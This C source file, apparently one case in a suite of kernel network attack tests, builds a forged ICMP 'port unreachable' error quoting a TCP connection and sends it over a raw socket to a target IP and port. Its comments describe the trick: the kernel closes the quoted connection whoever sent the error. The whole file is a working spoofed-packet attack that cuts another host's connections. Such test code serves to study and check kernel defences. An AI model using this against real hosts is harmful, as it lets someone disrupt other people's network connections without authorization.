// SPDX-License-Identifier: GPL-2.0-only
// An error of ICMP names a connection by the packet it quotes, and the kernel ends
// that one, whoever the error is from.
// Victims: host other
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>

#include "net.h"

int main(void)
{
	struct {
		struct icmphdr icmp;
		struct iphdr ip;
		uint16_t port[4];
	} error = {
		.icmp = { .type = ICMP_DEST_UNREACH, .code = ICMP_PORT_UNREACH },
		.ip = { .version = 4, .ihl = 5, .ttl = 64,
			.protocol = IPPROTO_TCP, .tot_len = htons(40) },
	};
	struct sockaddr_in at = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);

	if (fd < 0)
		refused("socket");
	at.sin_addr.s_addr = inet_addr(fact("IP"));
	error.ip.saddr = at.sin_addr.s_addr;
	error.ip.daddr = inet_addr("198.51.100.77");
	error.port[0] = htons(fact_number("PORT"));
	if (sendto(fd, &error, sizeof(error), 0, (void *)&at, sizeof(at)) < 0)
		refused("sendto");
	worked("the error is on its way to the victim");
}
